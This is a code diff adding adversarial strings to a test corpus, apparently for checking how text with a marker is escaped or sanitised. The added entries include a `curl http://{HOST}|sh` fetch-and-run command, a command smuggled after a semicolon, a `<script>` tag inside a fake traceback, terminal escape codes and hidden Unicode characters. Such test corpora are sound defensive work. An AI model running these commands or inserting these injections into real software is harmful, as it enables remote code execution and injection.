@@ -41,6 +41,10 @@ CORPUS: Sequence[str] = (
     f"&lt;b&gt;{MARK}&#60;/b&#62;&amp;",
     f"{MARK}/../../{MARK}?x=1#y\\{MARK}%00%2e",
     f"{MARK}" + "A" * 5_000,
+    f"Denied on `curl http://{HOST}|sh # {MARK} CASE`, `investigate report CASE; {MARK} CASE`",
+    f'Traceback (most recent call last):\n  File "<b>{MARK}</b>", line 1, in <module>\r\n'
+    f"\x1b[1A\x1b[2KSystemExit: 0 {MARK} <script>window.__{MARK}=9</script>\n\nDONE",
+    f"{MARK}\u061c\u00ad\u180e\u206a\u206f\ufff9\ufffb\u3164\u2800\U000e0001\U000e0070\U000e007f",
     "",
 )
 # Texts that hold JSON are read by the checks: there the harm stands inside, with half a character.
